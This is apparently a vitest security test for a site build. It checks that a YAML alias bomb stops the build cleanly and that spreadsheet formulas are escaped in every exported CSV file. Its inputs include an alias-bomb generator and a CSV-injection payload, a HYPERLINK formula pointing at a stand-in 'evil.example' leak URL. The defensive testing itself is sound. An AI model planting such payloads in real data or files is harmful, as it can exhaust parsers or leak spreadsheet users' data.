/**
 * Hostile data through the real build: a YAML alias bomb stops it at once, with its place and no
 * stack trace, whether or not the content check runs first; formulas typed as labels, titles and
 * place names reach every built CSV file only as text, read back with a parser the site does not use.
 */
import { spawnSync } from 'node:child_process';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isMap, isSeq, parseDocument } from 'yaml';
import { publishedCatalog } from '../../harness/catalog';
import { copyProject } from '../../harness/project';
import { parseCsv } from '../../harness/csv';

let project: string;
beforeAll(() => {
  project = copyProject('casebook-data-safety-');
});
afterAll(() => rmSync(project, { recursive: true, force: true }));

function run(args: string[], env: Record<string, string> = {}): { status: number | null; output: string } {
  const result = spawnSync('npm', args, {
    cwd: project,
    encoding: 'utf8',
    timeout: 230_000,
    env: { ...process.env, ...env },
  });
  return { status: result.status, output: result.stdout + result.stderr };
}

/**
 * A chart of a published story, whichever comes first, with a figure of the story's own (not derived)
 * in it: that figure's labels, the story's title and its first place are edited.
 */
const [story, chart, figure] = publishedCatalog()
  .stories.filter((one) => one.locale === 'en')
  .flatMap((one) =>
    one.data.charts.flatMap((oneChart) =>
      oneChart.figures.flatMap((id) => {
        const own = one.data.figures.find((candidate) => candidate.id === id);
        return own ? [[one, oneChart, own] as const] : [];
      }),
    ),
  )[0]!;
const place = story.places[0]!;
const DATA = `content/initiatives/${story.slug}/data.yaml`;
const read = (path: string) => readFileSync(join(project, path), 'utf8');
/** Changes files of the copy, runs `body`, and puts them back. */
function withChanges<T>(changes: Record<string, (text: string) => string>, body: () => T): T {
  const originals = Object.fromEntries(Object.keys(changes).map((path) => [path, read(path)]));
  for (const [path, change] of Object.entries(changes)) writeFileSync(join(project, path), change(originals[path]!));
  try {
    return body();
  } finally {
    for (const [path, text] of Object.entries(originals)) writeFileSync(join(project, path), text);
  }
}

/** The story's agencies replaced by nine lines that stand for a billion values; its first anchor opens the list. */
function aliasBomb(text: string): string {
  const levels = ['  - &a0 { zh: 甲, en: A }'];
  for (let level = 1; level <= 8; level++)
    levels.push(`  - &a${level} [${Array.from({ length: 10 }, () => `*a${level - 1}`).join(', ')}]`);
  return text.replace(/^agencies:\n(?: {2}[- ] .*\n)+/m, `agencies:\n${levels.join('\n')}\n`);
}
const anchorLine = readFileSync(DATA, 'utf8').split('\n').indexOf('agencies:') + 2;
const REFUSAL = `${DATA}:${anchorLine}:5  uses a YAML anchor (&a0): remove it and write each value out in full where it is used`;

describe('a YAML alias bomb', { timeout: 240_000 }, () => {
  it('stops `npm run build` with its place and no stack trace, and leaves dist/ as it was', () => {
    const { status, output } = withChanges({ [DATA]: aliasBomb }, () => run(['run', 'build']));
    expect(status, output).not.toBe(0);
    expect(output).toContain(REFUSAL);
    expect(output).toContain('Nothing was built; dist/ was left as it was.');
    expect(output).not.toContain('Stack trace');
    expect(output).not.toMatch(/^\s+at /m);
    expect(read('dist/index.html')).toBe('the previous build');
  });

  it("stops `astro build` too, without the content check: the loaders' guard names the same place", () => {
    const { status, output } = withChanges({ [DATA]: aliasBomb }, () =>
      run(['exec', '--', 'astro', 'build'], { CASEBOOK_OUT_DIR: '.guard-build' }),
    );
    expect(status, output).not.toBe(0);
    expect(output).toContain(REFUSAL);
    expect(output).not.toContain('Stack trace');
  });
});

/** What editors typed, each something a spreadsheet would run. */
const FORMULA = {
  label: '=HYPERLINK("https://evil.example/?leak=","Click")',
  labelZh: '+SUM(1,2)',
  title: '@SUM(A1) a story',
  place: '-A district',
};

describe('formulas typed into content', { timeout: 240_000 }, () => {
  it('reach every built CSV file as text after an apostrophe, and numbers stay numbers', () => {
    const changes = {
      [DATA]: (text: string) => {
        const doc = parseDocument(text);
        const figures = doc.get('figures');
        const entry = isSeq(figures)
          ? figures.items.find((item) => isMap(item) && item.get('id') === figure.id)
          : undefined;
        if (!isMap(entry)) throw new Error(`no figure ${figure.id} in ${DATA}`);
        entry.setIn(['label', 'en'], FORMULA.label);
        entry.setIn(['label', 'zh'], FORMULA.labelZh);
        return doc.toString();
      },
      [`content/initiatives/${story.slug}/en.mdx`]: (text: string) =>
        text.replace(/^title: .*$/m, `title: '${FORMULA.title}'`),
      'content/places.yaml': (text: string) => {
        const doc = parseDocument(text);
        const places: unknown = doc.contents;
        const entry = isSeq(places)
          ? places.items.find((item) => isMap(item) && item.get('id') === place.id)
          : undefined;
        if (!isMap(entry)) throw new Error(`no place ${place.id} in content/places.yaml`);
        entry.set('en', FORMULA.place);
        return doc.toString();
      },
    };
    const { status, output } = withChanges(changes, () => run(['run', 'build']));
    expect(status, output).toBe(0);
    const files = [
      'figures.csv',
      'figures-excel.csv',
      `charts/${story.slug}/${chart.id}.csv`,
      'places.csv',
      'timeline.csv',
    ].map((name) => [name, parseCsv(read(`dist/data/${name}`))] as const);
    for (const [name, rows] of files) {
      const cells = rows.flat();
      const runnable = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell));
      expect(runnable, name).toEqual([]);
    }
    const all = (name: string) => files.find(([file]) => file === name)![1].flat();
    for (const name of ['figures.csv', 'figures-excel.csv', `charts/${story.slug}/${chart.id}.csv`]) {
      expect(all(name), name).toContain(`'${FORMULA.label}`);
      expect(all(name), name).toContain(`'${FORMULA.labelZh}`);
      expect(all(name), name).toContain(String(figure.value));
    }
    expect(all('places.csv')).toContain(`'${FORMULA.place}`);
    expect(all('timeline.csv')).toContain(`'${FORMULA.title}`);
  });
});
